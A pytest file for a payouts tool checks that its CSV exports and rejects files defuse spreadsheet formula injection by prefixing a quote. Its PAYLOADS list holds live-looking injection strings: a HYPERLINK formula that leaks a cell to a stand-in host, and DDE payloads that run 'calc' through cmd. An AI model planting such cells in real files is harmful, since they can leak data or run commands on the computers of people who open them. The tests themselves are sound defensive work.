"""No formula leaves this program: the batch export and the rejects files neutralize every cell that
a spreadsheet would evaluate (OWASP: leading single quote), except plain numbers the program computed."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from typer.testing import CliRunner

from sorae_payouts.cli.batch_cmd import EXPORT_NUMERIC_COLUMNS
from sorae_payouts.cli.main import app
from sorae_payouts.core.csv_safe import safe_cell, safe_frame
from sorae_payouts.ingest import ImportKind, import_file
from sorae_payouts.month_end.manifest import PayoutPolicy
from sorae_payouts_tests.csv_cells import evaluable_cells
from sorae_payouts_tests.factory import NOW, OCT, add_affiliate, add_commission, build_manifest, finalize_period
from sorae_payouts_tests.ingest.helpers import AFFILIATE_HEADER, COMMISSION_HEADER, write_csv

# The payloads of issue 9, and the other starts OWASP lists.
PAYLOADS = [
    '=HYPERLINK("http://x/?leak="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'![/x]",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(payload, numeric=True) == "'" + payload  # a numeric column only passes plain numbers


def test_plain_text_and_program_numbers_are_left_alone():
    assert [safe_cell(v) for v in ("alice", "12.34", "a=b", None)] == ["alice", "12.34", "a=b", None]
    assert [safe_cell(v, numeric=True) for v in (-1500, "-15.00", 0)] == [-1500, "-15.00", 0]
    assert safe_cell("-15.00") == "'-15.00"  # text columns: a sign is a formula start whatever follows
    frame = safe_frame(
        pd.DataFrame({"row": [1, 2], "value": ["@SUM(1+1)", "ok"], "n": ["-3", "=1"]}), numeric=("row", "n")
    )
    assert frame.to_dict("list") == {"row": [1, 2], "value": ["'@SUM(1+1)", "ok"], "n": ["-3", "'=1"]}


def test_batch_export_holds_no_formula(engine, ledger_url, tmp_path, monkeypatch):
    monkeypatch.setenv("SORAE_DATABASE_URL", ledger_url)
    for i, payload in enumerate(PAYLOADS[:4]):
        add_affiliate(engine, payload, account=f"acct_formula{i}")
        add_commission(engine, payload, 10_000 + i)
    add_affiliate(engine, "plain")
    add_commission(engine, "plain", 7_000)
    finalize_period(engine, OCT, now=NOW, holding_days=3)
    build_manifest(engine, OCT, policy=PayoutPolicy.from_major({"usd": "50.00"}), now=NOW)
    out = tmp_path / "manifest.csv"
    result = CliRunner().invoke(app, ["batch", "export", "2026-10", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert evaluable_cells(out, numeric=EXPORT_NUMERIC_COLUMNS) == []
    rows = {r["affiliate_id"]: r for r in csv.DictReader(out.open(newline=""))}
    assert set(rows) == {"'" + p for p in PAYLOADS[:4]} | {"plain"}
    assert rows["'@SUM(1+1)"]["amount_minor"] == "10002" and rows["plain"]["amount"] == "70.00"
    shown = CliRunner().invoke(app, ["batch", "show", "2026-10"])  # ids with rich markup print as text
    assert shown.exit_code == 0 and "[/x]" in shown.output


def test_rejects_files_hold_no_formula(engine, tmp_path):
    affiliates = write_csv(
        tmp_path / "a.csv",
        AFFILIATE_HEADER,
        [
            [PAYLOADS[0], PAYLOADS[1], "not-an-email", "", "usd"],
            ["A2", PAYLOADS[2], "a2@example.com", "", "=usd"],
            ["A3", "Ann", "a3@example.com", "", "usd"],
        ],
    )
    report = import_file(engine, ImportKind.AFFILIATES, affiliates)
    assert report.rejected_rows == 2
    commissions = write_csv(
        tmp_path / "=c,@x.csv",
        COMMISSION_HEADER,
        [
            ["K1", PAYLOADS[3], "O1", "1.00", "usd", "2026-10-05T12:00:00Z"],
            ["K2", "A3", "O2", "-1.00", "usd", "2026-10-05T12:00:00Z"],
        ],
    )
    report = import_file(engine, ImportKind.COMMISSIONS, commissions)
    assert report.rejected_rows == 2
    for path in (tmp_path / "a.rejects.csv", tmp_path / "=c,@x.rejects.csv"):
        assert evaluable_cells(path, numeric=("row",)) == []
    first = (tmp_path / "=c,@x.rejects.csv").read_text(encoding="utf-8").splitlines()[0]
    assert first.startswith('"# rejects of =c,@x.csv')
    rejects = pd.read_csv(tmp_path / "a.rejects.csv", skiprows=1, dtype=str, keep_default_na=False)
    assert rejects["affiliate_id"].tolist()[0] == "'" + PAYLOADS[0]
